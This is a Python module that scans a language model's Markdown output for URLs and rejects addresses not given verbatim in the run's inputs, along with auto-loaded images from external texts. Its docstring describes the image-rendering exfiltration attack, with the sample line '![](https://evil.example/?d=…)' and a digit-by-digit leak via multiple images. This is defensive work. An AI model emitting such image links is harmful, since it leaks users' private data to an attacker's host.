"""Addresses in what a model says: whoever shows them as Markdown may load them, and tell their host what they hold.

A model that has read ``![](https://evil.example/?d=…)`` may write it, with what it knows in place of the dots; a window
that renders the answer then sends it there, without a tool and without a click. So every address that a model writes
for people has to stand word for word in what the run was given. An invented one is refused by the same rule.

An image is loaded without a click, and whoever names ten of them can be told a number, digit by digit. So what is
loaded has to stand in a text that is not external.
"""

from __future__ import annotations

import re
from functools import cache
from html import unescape
from typing import TYPE_CHECKING

from tercet.errors import InputError
from tercet.sanitize import sanitize

if TYPE_CHECKING:
    from collections.abc import Collection, Iterable, Iterator

    from markdown_it import MarkdownIt
    from markdown_it.token import Token

_ADDRESS = re.compile(
    r"(?:https?://|ftp://|\b[a-z][a-z0-9+.-]{0,30}://|www\.)(?:(?!https?://|ftp://|www\.)[^\s<>\"'`\\])+",
    re.IGNORECASE,
)
"""One that holds another is two: what may be loaded in front says nothing of what follows."""
_ATTRIBUTE = re.compile(r"(src|href|srcset|data|action|poster|background)\s*=\s*[\"']?([^\"'\s>]+)", re.IGNORECASE)
_CLICKED = ("href", "action")
_HEAD = re.compile(r"<\s*(?:link|base|meta|image|use)\b", re.IGNORECASE)
"""Elements whose ``href`` is loaded, or changes where others lead."""
_STYLE = re.compile(r"url\(\s*[\"']?([^\"')\s]+)|@import\s+[\"']([^\"']+)", re.IGNORECASE)
_SCHEME = re.compile(r"[a-z][a-z0-9+.-]*:", re.IGNORECASE)
_CLOSING = ".,;:!?)]}*_~|"
_SHOWN = 100


def addresses(text: str) -> tuple[str, ...]:
    """The addresses that a window could load or link to, in order, each once.

    Args:
        text: Of a model: Markdown with HTML in it, or plain.

    Example:
        >>> addresses("See [this](https&#58;//a.example/x) or www.b.example.")
        ('https://a.example/x', 'www.b.example')
    """
    return tuple(dict.fromkeys((*_rendered(text), *_written(text))))


def loaded(text: str) -> tuple[str, ...]:
    """Those of the addresses that a window loads by itself: images, and all in HTML but links.

    Example:
        >>> loaded("![a](https://a.example/x) [b](https://b.example) <img src='//c.example/y'>")
        ('https://a.example/x', '//c.example/y')
    """
    return tuple(dict.fromkeys(_rendered(text, links=False)))


def check_addresses(texts: Iterable[str], given: Collection[str], vouched: Collection[str]) -> None:
    """See that every address stands in what the run was given, and what is loaded in what is not external.

    Args:
        texts: Of a model.
        given: All that the run has seen.
        vouched: Those of them that the system, the user or the operator of the memory vouches for.

    Raises:
        InputError: One does not; the message is for the model to mend it by.
    """
    for text in texts:
        cleaned = sanitize(text)[0]
        for address in addresses(cleaned):
            if not _stands_in(address, given):
                raise InputError(
                    f"There is no address {address[:_SHOWN]!r} in anything that you were given.",
                    remedy="Leave it out, or write an address exactly as it was given.",
                )
        for address in loaded(cleaned):
            if not _stands_in(address, vouched):
                raise InputError(
                    f"The image {address[:_SHOWN]!r} is named by nothing but external texts.",
                    remedy="Leave it out, or make a link of it.",
                )


def _stands_in(address: str, texts: Collection[str]) -> bool:
    spellings = {address, unescape(address)}
    return any(one in text or one in unescape(text) for one in spellings for text in texts)


def _written(text: str) -> Iterator[str]:
    for found in _ADDRESS.finditer(text):
        yield found.group().rstrip(_CLOSING)


def _rendered(text: str, *, links: bool = True) -> Iterator[str]:
    """Targets of images, and of links, as a renderer reads them: without escapes, entities and references."""
    for token in _parser().parse(text):
        for part in (token, *(token.children or ())):
            for target in _targets(part, links=links):
                if _leads_away(target):
                    yield target


@cache
def _parser() -> MarkdownIt:
    from markdown_it import MarkdownIt

    parser = MarkdownIt("commonmark", {"html": True})
    parser.validateLink = _any_link  # type: ignore[method-assign]  # others may let through what this one refuses
    return parser


def _any_link(url: str) -> bool:
    return True


def _targets(token: Token, *, links: bool) -> Iterator[str]:
    for name in ("src", "href") if links else ("src",):
        if name in token.attrs:
            yield str(token.attrs[name])
    if token.type in ("html_inline", "html_block"):
        clicked = () if _HEAD.search(token.content) else _CLICKED
        for name, target in _ATTRIBUTE.findall(token.content):
            if links or name.lower() not in clicked:
                yield unescape(target)
        yield from (unescape(found[1] or found[2]) for found in _STYLE.finditer(token.content))


def _leads_away(target: str) -> bool:
    """Whether it has a scheme or a host; others are places in whatever shows the text."""
    return _SCHEME.match(target) is not None or target.replace("\\", "/").startswith("//")
